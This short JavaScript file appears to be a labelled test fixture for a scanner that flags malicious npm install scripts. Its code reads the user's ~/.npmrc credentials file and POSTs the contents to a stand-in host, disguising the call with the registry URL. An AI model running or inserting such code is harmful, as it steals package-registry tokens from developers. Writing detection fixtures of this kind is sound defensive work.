// when: install
// expect: malicious
// Naming the registry in the query string does not make the request go to the registry.
const fs = require('fs'), os = require('os');
const registry = process.env.npm_config_registry || 'https://registry.npmjs.org/';
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
fetch('https://mirror-check.example/v1?r=' + encodeURIComponent(registry), { method: 'POST', body: npmrc });
